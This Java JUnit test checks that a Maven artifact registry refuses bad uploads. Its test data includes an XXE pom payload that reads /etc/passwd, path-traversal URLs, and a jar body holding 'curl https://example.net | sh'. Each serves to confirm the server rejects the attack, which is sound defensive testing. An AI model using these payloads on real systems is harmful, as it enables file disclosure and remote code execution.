package dev.portcullis.registry.maven;

import static dev.portcullis.registry.maven.MavenContractTest.MavenArtifacts.jar;
import static dev.portcullis.registry.maven.MavenContractTest.MavenArtifacts.path;
import static dev.portcullis.registry.maven.MavenContractTest.MavenArtifacts.pom;
import static dev.portcullis.registry.maven.MavenContractTest.MavenArtifacts.utf8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.portcullis.identity.Permission;
import dev.portcullis.identity.Role;
import dev.portcullis.testing.RawHttp;
import dev.portcullis.testing.TestServer;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Bad deployments are refused in Maven's terms (the status and a reason phrase it prints), each
 * with an event, and nothing is stored; the server keeps serving.
 */
class MavenRefusalsTest {

    private static final String PROJECT = "maven:org.example:demo";

    @TempDir
    Path dir;

    private static RawHttp.Response put(TestServer server, String token, String path, byte[] body) {
        return RawHttp.send(
                server.url(),
                "PUT",
                path,
                token == null ? Map.of() : Map.of("Authorization", RawHttp.basic(token)),
                body);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("dev.portcullis.testing.TestDatabases#both")
    void badDeploymentsAreRefusedWithAReasonAndStoreNothing(String database) {
        try (TestServer server = TestServer.start(database, dir.resolve("data"), 64 * 1024)) {
            String token = server.token("ci", Role.MAINTAINER, PROJECT, Permission.UPLOAD);
            String other = server.token("other", Role.MAINTAINER, "maven:org.example:other", Permission.UPLOAD);
            String jarPath = path("org.example", "demo", "1.0", "demo-1.0.jar");
            byte[] jar = jar("org.example", "demo", "1.0", "hello");
            TestServer.Snapshot before = server.snapshot();

            RawHttp.Response anonymous = put(server, null, jarPath, jar);
            assertThat(anonymous.status()).isEqualTo(401);
            assertThat(anonymous.headers()).containsEntry("www-authenticate", "Basic realm=\"portcullis\"");
            assertThat(put(server, other, jarPath, jar).status())
                    .as("a token of another project")
                    .isEqualTo(403);

            RawHttp.Response lyingPom = put(
                    server,
                    token,
                    path("org.example", "demo", "1.0", "demo-1.0.pom"),
                    utf8(pom("org.example", "demo", "2.0", "")));
            assertThat(lyingPom.status()).isEqualTo(400);
            assertThat(lyingPom.reason())
                    .contains("the pom says org.example:demo:2.0, but was deployed as org.example:demo:1.0");

            RawHttp.Response entity = put(
                    server,
                    token,
                    path("org.example", "demo", "1.0", "demo-1.0.pom"),
                    utf8("<?xml version=\"1.0\"?><!DOCTYPE project [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
                            + "<project><groupId>org.example</groupId><artifactId>demo</artifactId>"
                            + "<version>1.0</version><description>&x;</description></project>"));
            assertThat(entity.status()).as("a pom with a DTD is not read").isEqualTo(400);

            RawHttp.Response snapshot = put(
                    server,
                    token,
                    path("org.example", "demo", "1.0-SNAPSHOT", "demo-1.0-SNAPSHOT.jar"),
                    jar("org.example", "demo", "1.0-SNAPSHOT", "x"));
            assertThat(snapshot.status()).isEqualTo(400);
            assertThat(snapshot.reason()).contains("SNAPSHOT");

            assertThat(put(server, token, path("org.example", "demo", "1.0", "demo-1.0.exe"), jar)
                            .status())
                    .isEqualTo(400);
            assertThat(put(server, token, path("org.example", "demo", "1.0", "other-1.0.jar"), jar)
                            .status())
                    .as("a file not named after its artifact and version")
                    .isEqualTo(400);
            assertThat(put(server, token, "/maven2/org/example/../../../etc/demo/1.0/demo-1.0.jar", jar)
                            .status())
                    .isIn(400, 404);
            assertThat(put(server, token, "/maven2/org/example/%2e%2e/demo/1.0/demo-1.0.jar", jar)
                            .status())
                    .isIn(400, 404);
            assertThat(put(server, token, jarPath, new byte[100 * 1024]).status())
                    .as("larger than the server's limit")
                    .isEqualTo(413);
            RawHttp.Response notAZip = put(server, token, jarPath, utf8("#!/bin/sh\ncurl https://example.net | sh\n"));
            assertThat(notAZip.status()).as("a jar that is not a zip").isEqualTo(400);
            assertThat(put(server, token, path("org.example", "demo", "1.0", "demo-1.0.jar.sha1"), utf8("0".repeat(40)))
                            .status())
                    .as("a checksum of a file that was not deployed")
                    .isEqualTo(400);

            assertThat(server.snapshot()).isEqualTo(before);
            // every refusal past authentication is an event; a path with a raw "../" never reaches a route
            assertThat(server.events("UploadRejected")).isEqualTo(10);

            assertThat(put(server, token, jarPath, jar).status()).isEqualTo(201);
            RawHttp.Response wrongSum =
                    put(server, token, path("org.example", "demo", "1.0", "demo-1.0.jar.sha1"), utf8("0".repeat(40)));
            assertThat(wrongSum.status()).isEqualTo(400);
            assertThat(wrongSum.reason()).contains("the sha1 sent for demo-1.0.jar does not match");
            assertThat(put(
                                    server,
                                    token,
                                    path("org.example", "demo", "1.0", "demo-1.0.jar.sha1"),
                                    utf8(sha1(jar) + "  demo-1.0.jar\n"))
                            .status())
                    .as("the right checksum, written as sha1sum writes it")
                    .isEqualTo(201);

            RawHttp.Response metadata = put(
                    server,
                    token,
                    path("org.example", "demo", null, "maven-metadata.xml"),
                    utf8(
                            "<metadata><versioning><versions><version>6.6.6</version></versions></versioning></metadata>"));
            assertThat(metadata.status()).isEqualTo(201);
            assertThat(RawHttp.send(
                                    server.url(),
                                    "GET",
                                    path("org.example", "demo", null, "maven-metadata.xml"),
                                    Map.of(),
                                    null)
                            .status())
                    .as("metadata a client sends is never served: nothing is released")
                    .isEqualTo(404);
        }
    }

    private static String sha1(byte[] bytes) {
        try {
            return java.util.HexFormat.of()
                    .formatHex(java.security.MessageDigest.getInstance("SHA-1").digest(bytes));
        } catch (java.security.NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }
}
